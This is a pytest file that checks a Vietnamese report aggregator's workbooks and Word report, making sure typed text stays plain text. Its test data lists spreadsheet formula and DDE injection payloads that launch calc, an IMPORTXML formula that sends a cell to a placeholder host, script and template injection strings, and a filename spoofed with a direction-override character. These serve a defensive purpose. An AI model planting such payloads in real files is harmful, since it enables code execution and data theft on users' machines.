"""What units type stays text in everything that leaves the program: no formula, no link, no broken file."""

from __future__ import annotations

import io
import json
import re
import unicodedata
import zipfile
from collections.abc import Mapping
from dataclasses import dataclass
from functools import cache
from pathlib import Path

import docx
import openpyxl
import pytest
from openxml_audit import OpenXmlValidator

from aggregator.judge.compare import compare, province_of
from aggregator.nouns.document import Row, Sheet
from aggregator.run import deliver, deliver_briefing, open_desk
from aggregator.vietnamese.fold import CELL_LIMIT
from aggregator.write.comparison import comparison_workbook
from aggregator.write.province import provincial_workbook
from aggregator.write.result import result_of
from tests.book.books import fresh
from tests.sheets import CAMPAIGN, rows, run_over, workbook
from tests.trust.trial import workplace

LONG = "dài " * 8_000
TEXTS = (
    "=1+1", "=cmd|'/C calc'!A0", '=HYPERLINK("http://x.vn","bấm")', "+1+cmd|'/C calc'!A0", "-2+cmd|'/C calc'!A0",
    "@SUM(A1)", "\t=1+a", '=IMPORTXML(CONCAT("http://x.vn/?",A1),"//a")', "{=2+1}", '=DDE("cmd";"/C calc";"a")',
    "'=1+b", "http://x.vn/?a=1&b=2", "mailto:a@x.vn", "file:///c:/windows/system.ini", "\\\\x.vn\\share\\a",
    "internal:'Tổng quan'!A1", "_x0041_ và _x000D_", "<script>alert(1)</script>", "a & b < c > d \" '", "]]> a",
    "&lt;b&gt;", "{{ 7*7 }} a", "{% raw %}", "%s %(a)s {0}", "Mô hình \u202egnurt\u202c", "Mô hình \u200f\u2067ẩn",
    "Trồng hoa 😀", "Mô hình\x0bhai\x1f\x00", "Trồng e\u0302\u0301", "MERGEFIELD a \\* MERGEFORMAT", LONG,
)  # fmt: skip
HOSTILE_FILE = "=1+1 & <b> 'x' {{ y }} _x0041_ \u202excod.xlsx"


@dataclass(frozen=True)
class Made:
    """Everything that a run wrote: name → bytes."""

    files: Mapping[str, bytes]

    def of(self, ending: str) -> dict[str, bytes]:
        return {name: data for name, data in self.files.items() if name.endswith(ending)}


def returned(texts: tuple[str, ...]) -> bytes:
    """A list in which every text is once a model's name, address, goals and holder."""
    head = "| STT | Địa chỉ | Tên mô hình | Tập thể hoặc cá nhân | Mục tiêu | Cấp đăng ký |"
    lines = [Row(9 + n, (n, text, text, text, text, "Cấp tỉnh")) for n, text in enumerate(texts, start=1)]
    table = rows(f"Đơn vị: Xã Cao Xá\n\n{head}")
    return workbook(Sheet("=1+1 & _x0041_", (*table, *lines)))


@cache
def made(hostile: bool) -> Made:
    """What comes of an inbox of hostile texts; or of the same with harmless ones."""
    texts = TEXTS if hostile else tuple(f"Mô hình số {n}" for n in range(len(TEXTS)))
    name = HOSTILE_FILE if hostile else "M3.xlsx"
    with workplace() as place:
        book = fresh(place)
        outcome = run_over(place / "in", {name: returned(texts), f"{name}.pdf": b"x"}, book=book)
        before = result_of(run_over(place / "before", {"M3.xlsx": returned(("A",))}))
        keep = open_desk(book, CAMPAIGN, outcome.as_of).keep
        deliver(outcome, place / "tong_hop.xlsx", place / "ket_qua.json", book, frozen=True, keep=keep)
        deliver_briefing(outcome, place / "bao_cao.docx", book, keep)
        (place / "so_sanh.xlsx").write_bytes(comparison_workbook(compare(before, result_of(outcome)), outcome))
        province = province_of([result_of(outcome)], outcome.campaign)
        (place / "tinh.xlsx").write_bytes(provincial_workbook(province))
        return Made({path.name: path.read_bytes() for path in place.iterdir() if path.is_file()})


def parts(data: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        return {n: package.read(n).decode("utf-8") for n in package.namelist() if n.endswith((".xml", ".rels"))}


WORKBOOKS = ("tong_hop.xlsx", "so_theo_doi.xlsx", "so_sanh.xlsx", "tinh.xlsx")
OUTSIDE = re.compile(
    r'TargetMode="External"|externalLink|ddeLink|oleObject|<w:instrText|w:fldSimple|attachedTemplate|vbaProject'
)


@pytest.mark.parametrize("name", [*WORKBOOKS, "bao_cao.docx"])
def test_nothing_typed_became_a_link_a_field_or_an_object(name: str) -> None:
    found = {part: sorted(set(OUTSIDE.findall(xml))) for part, xml in parts(made(True).files[name]).items()}
    harmless = {part: sorted(set(OUTSIDE.findall(xml))) for part, xml in parts(made(False).files[name]).items()}
    assert {part: marks for part, marks in found.items() if marks} == {p: m for p, m in harmless.items() if m}


@pytest.mark.parametrize("name", WORKBOOKS)
def test_no_formula_holds_anything_typed(name: str) -> None:
    formulas = [f for xml in parts(made(True).files[name]).values() for f in re.findall(r"<f[ >][^<]*", xml)]
    words = ("cmd", "HYPERLINK", "DDE", "IMPORTXML", ">1+1", "x.vn", "A1)")
    assert [formula for formula in formulas if any(word in formula for word in words)] == []


@pytest.mark.parametrize("name", [*WORKBOOKS, "bao_cao.docx"])
def test_the_file_is_valid(name: str, tmp_path: Path) -> None:
    path = tmp_path / name
    path.write_bytes(made(True).files[name])
    assert [str(error) for error in OpenXmlValidator().validate(path).errors] == []


@cache
def shown(data: bytes) -> set[str]:
    """The texts of a workbook's cells as a program reads them."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    return {
        cell.value for sheet in book for line in sheet.iter_rows() for cell in line if isinstance(cell.value, str)
    }


def plain(text: str) -> str:
    """What is left of a text: control characters are blanks, blanks at the ends are none, letters are composed."""
    text = re.sub(r"[\x00-\x1f\u202a-\u202e\u2066-\u2069\u200e\u200f]", " ", unicodedata.normalize("NFC", text))
    return " ".join(text.split())


@pytest.mark.parametrize("name", ["tong_hop.xlsx", "so_theo_doi.xlsx"])
def test_every_text_stands_there_as_it_was_typed(name: str) -> None:
    found = {plain(text) for text in shown(made(True).files[name])}
    assert [text for text in TEXTS if text != LONG and plain(text) not in found] == []


def test_a_text_that_fills_a_cell_stays_within_it() -> None:
    texts = shown(made(True).files["tong_hop.xlsx"])
    assert max(map(len, texts)) <= CELL_LIMIT
    assert plain(LONG) in {plain(text) for text in texts}


def test_the_result_names_everything_and_the_report_is_readable() -> None:
    result = json.loads(made(True).files["ket_qua.json"])
    assert len(result["entries"]) == len(TEXTS)
    assert [s["file"].endswith((".xlsx", ".pdf")) for s in result["submissions"]] == [True, True]
    assert docx.Document(io.BytesIO(made(True).files["bao_cao.docx"])).paragraphs


def test_no_text_turns_round_what_stands_beside_it() -> None:
    """Characters that turn the direction of writing do not come from a file's name into any output."""
    for name in WORKBOOKS:
        assert not [text for text in shown(made(True).files[name]) if "\u202excod" in text]
